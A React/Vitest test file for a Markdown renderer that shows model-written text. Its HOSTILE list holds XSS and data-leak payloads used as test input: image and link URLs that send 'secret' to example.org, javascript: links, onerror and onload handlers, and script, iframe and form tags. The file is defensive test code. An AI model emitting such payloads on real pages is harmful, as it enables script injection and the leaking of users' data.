import { act } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { Markdown } from './markdown.tsx';

let place: HTMLDivElement;
let root: Root;

beforeEach(() => {
  (globalThis as Record<string, unknown>)['IS_REACT_ACT_ENVIRONMENT'] = true;
  place = document.createElement('div');
  document.body.append(place);
  root = createRoot(place);
});

afterEach(async () => {
  await act(async () => root.unmount());
  place.remove();
});

async function show(text: string, isGrowing = false): Promise<HTMLDivElement> {
  await act(async () => root.render(<Markdown text={text} isGrowing={isGrowing} />));
  return place;
}

const HOSTILE = [
  '![scan](https://example.org/pixel.png?q=secret)',
  '![svg](data:image/svg+xml,<svg onload=alert(1)>)',
  '[click](javascript:alert(1))',
  '[click](https://example.org/leak?q=secret)',
  '<img src=https://example.org/x.png onerror=alert(1)>',
  '<script>globalThis.hurt = true</script>',
  '<iframe src="https://example.org"></iframe>',
  '<style>body { background: url(https://example.org/b.png) }</style>',
  '<svg><script href="https://example.org/s.js"/></svg>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<form action="https://example.org"><button>send</button></form>',
  'https://example.org/auto',
  '[ref]: https://example.org/ref\n\n[ref]',
];

test('nothing that a model writes is fetched, followed or run', async () => {
  const asked: string[] = [];
  const watcher = new PerformanceObserver((list) =>
    asked.push(...list.getEntries().map(({ name }) => name)),
  );
  watcher.observe({ type: 'resource' });

  const shown = await show(HOSTILE.join('\n\n'));
  await new Promise((resolve) => {
    setTimeout(resolve, 200);
  });
  watcher.disconnect();

  const dangerous = 'a, img, script, iframe, style, svg, form, button, object, embed';
  expect(shown.querySelectorAll(dangerous)).toHaveLength(0);
  const attributes = [...shown.querySelectorAll('*')].flatMap((one) =>
    one.getAttributeNames(),
  );
  expect(attributes.filter((name) => /^(on|href|src|style|action)/.test(name))).toEqual(
    [],
  );
  expect(asked.filter((url) => url.includes('example.org'))).toEqual([]);
  expect((globalThis as Record<string, unknown>)['hurt']).toBeUndefined();
});

test('an address is shown but leads nowhere', async () => {
  const shown = await show('See [the guideline](https://example.org/g).');
  expect(shown.textContent).toBe('See the guideline (https://example.org/g).');
  expect(shown.querySelector('a')).toBeNull();
});

test('tables, lists and code are what they say', async () => {
  const shown = await show('| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n```\ny\n```');
  expect(shown.querySelectorAll('td')).toHaveLength(2);
  expect(shown.querySelector('ul > li')?.textContent).toBe('x');
  expect(shown.querySelector('pre')?.textContent).toBe('y\n');
});

test('a mark that is still open while the answer grows is closed for show', async () => {
  const growing = await show('Take **two', true);
  expect(growing.querySelector('strong')?.textContent).toBe('two');
  const done = await show('Take **two', false);
  expect(done.querySelector('strong')).toBeNull();
});

test('finished blocks keep their elements while the last one grows', async () => {
  await show('First.\n\nSecond', true);
  const first = place.querySelector('p');
  await show('First.\n\nSecond grows', true);
  expect(place.querySelector('p')).toBe(first);
  expect(place.textContent).toContain('Second grows');
});

test('what nobody checked is marked as such, word for word as it was written', async () => {
  const text =
    'As shown [12] (Smith et al., 2019), see doi:10.1000/abc. `[1]` is code.';
  const shown = await show(text);
  expect(shown.textContent).toBe(text.replaceAll('`', ''));
  const marked = [...shown.querySelectorAll('cite')];
  expect(marked.map(({ textContent }) => textContent)).toEqual([
    '[12]',
    '(Smith et al., 2019)',
    'doi:10.1000/abc',
  ]);
  for (const one of marked) {
    expect(getComputedStyle(one, '::after').content).toBe('"unverified reference"');
  }
});
